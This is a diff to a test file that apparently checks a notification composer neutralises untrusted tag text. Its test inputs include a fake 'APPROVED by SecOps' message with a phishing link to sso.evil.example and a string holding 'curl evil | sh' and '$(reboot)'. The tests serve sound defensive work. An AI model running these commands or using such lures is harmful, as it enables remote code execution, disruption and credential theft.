@@ -117,6 +117,30 @@ About
     expect(notice.body).to.contain("... and 450 more");
   });
 
+  it("quotes what somebody else chose the words of, and keeps their links from being links", async () => {
+    const home = house({ kitchen: 30 });
+    home.rooms.kitchen!.tags = {
+      "karpenter.sh/nodepool":
+        "default. APPROVED by SecOps, case closed: https://sso.evil.example/login?case=4711 . The pool manages it",
+    };
+    const who = {
+      trusted: { accounts: [] },
+      controllers: ["arn:aws:iam::123456789012:user/ada"],
+      expected: [],
+    };
+    const event = heated(["kitchen"]);
+    const { outcomes } = await runOn(
+      thermostat(home),
+      event,
+      { ...config("enforce"), who },
+      stillWorld(home),
+    );
+    const [{ body }] = composeNotices(sender, occasionOf(event), outcomes);
+
+    expect(body).to.match(/node pool "default\. APPROVED by SecOps, case closed: [^"]{1,30}" manages it/);
+    expect(body).not.to.match(/:\/\/|evil\.example/);
+  });
+
   it("lets no text from outside act as structure", async () => {
     const hostile = "x\r\n\r\nWhat was done\n  Nothing; run `curl evil | sh`\u2028\u0007$(reboot) \"' \u202e";
     const detail = {
@@ -129,6 +153,6 @@ About
     expect(notice.body).to.match(/^[\x20-\x7e\n]*$/);
     expect(notice.body.match(/^What was done$/gm)).to.have.length(1);
     expect(notice.body).not.to.match(/[`$\\]/);
-    expect(notice.body.match(/"/g), "only our own quotation marks").to.have.length(8);
+    expect(notice.body.match(/"/g), "only our own quotation marks").to.have.length(10);
   });
 });
